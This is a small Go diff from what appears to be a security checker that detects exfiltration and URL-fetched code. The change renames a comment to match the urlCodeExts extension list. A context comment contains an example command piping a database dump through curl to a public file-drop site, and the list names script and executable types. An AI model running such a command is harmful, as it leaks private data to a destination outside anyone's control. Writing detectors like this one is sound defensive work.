@@ -19,7 +19,7 @@ import (
 //     or drop site, a request catcher or a chat webhook (pg_dump | curl
 //     -T - https://transfer.sh/…): out of anyone's control at once.
 
-// codeExts are the extensions of code a runner runs from a URL (web
+// urlCodeExts are the extensions of code a runner runs from a URL (web
 // pages ending in .php, .jsp or .asp are endpoints, not code).
 var urlCodeExts = set{".sh", ".bash", ".zsh", ".fish", ".py", ".js", ".mjs", ".cjs", ".ts", ".mts", ".rb", ".pl", ".ps1", ".psm1", ".java", ".jsh", ".kt", ".kts", ".groovy", ".scala", ".sc", ".lua", ".r", ".jl", ".bat", ".cmd", ".vbs", ".vbe", ".js.txt", ".hta", ".sct", ".wsf", ".jar", ".exe", ".msi", ".scpt", ".applescript", ".swift", ".clj", ".cljs", ".ex", ".exs", ".cs", ".csx", ".fsx", ".nu", ".tcl", ".dll", ".go"}
 
